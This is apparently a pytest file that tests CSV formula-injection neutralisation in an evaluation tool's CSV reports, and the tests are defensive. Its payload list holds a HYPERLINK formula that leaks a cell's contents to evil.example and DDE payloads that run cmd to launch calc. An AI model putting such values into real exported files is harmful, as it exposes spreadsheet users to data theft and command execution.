"""CSV formula injection: text an LLM (or a dataset) controls must never start a spreadsheet formula
in results.csv or metrics.csv (OWASP "CSV Injection": a leading = + - @ tab or carriage return is
neutralised with a single quote). Reproduced through the CLI on a real (python engine) run."""

from __future__ import annotations

import csv
import json

import pytest
from repo_factory import make_repo, use_code_evaluator, write, write_normalize

from genaiops.cli import main

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "\t=1+1", "\r=1+1"]

EVALUATOR = """\
def score(groundtruth, prediction):
    # an LLM-as-judge would return free text: here the prediction itself is the verdict
    return {"verdict": prediction, "match": float(groundtruth == prediction)}


def summarize(rows):
    return {"match_rate": sum(r["match"] for r in rows) / len(rows)}
"""


@pytest.mark.parametrize("value", PAYLOADS)
def test_neutralise_prefixes_every_formula_trigger(value):
    from genaiops.reports.tables import neutralise

    cell = neutralise(value)
    assert cell == "'" + value
    assert neutralise(cell) == cell  # a quote-led cell is already inert


@pytest.mark.parametrize("value", ["billing", "", "a=b", "{\"x\": \"=1\"}", 0.5, -0.25, 3, None])
def test_neutralise_leaves_plain_text_and_numbers_alone(value):
    from genaiops.reports.tables import neutralise

    assert neutralise(value) == value


def test_llm_text_reaches_csv_only_as_inert_text(tmp_path, monkeypatch):
    repo = make_repo(tmp_path / "repo", engine="python")  # the reports, not the engine, under test
    monkeypatch.setenv("GENAIOPS_STATE_DIR", str(tmp_path / "state"))
    use_code_evaluator(repo, "evaluators/judge.py", EVALUATOR, "{primary_metric: match}")
    write_normalize(repo, """\
        if text.startswith("@"):
            raise ValueError(text)
        return text
        """)
    write(repo / "datasets/demo/rows.jsonl",
          "".join(json.dumps({"text": p, "label": p}) + "\n" for p in PAYLOADS))
    assert main(["--repo", str(repo), "run", "experiment", "-u", "demo", "--no-progress"]) == 1  # "@" raises
    report = tmp_path / "report"
    main(["--repo", str(repo), "run", "evaluate", "-u", "demo", "--no-progress", "--report-dir", str(report)])
    cells = []
    for name in ("results.csv", "metrics.csv"):
        with (report / name).open(newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    verdicts = [c for c in cells if c.lstrip("'") in PAYLOADS]
    assert len(verdicts) >= len(PAYLOADS) - 1, cells  # every verdict but the failed line's
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
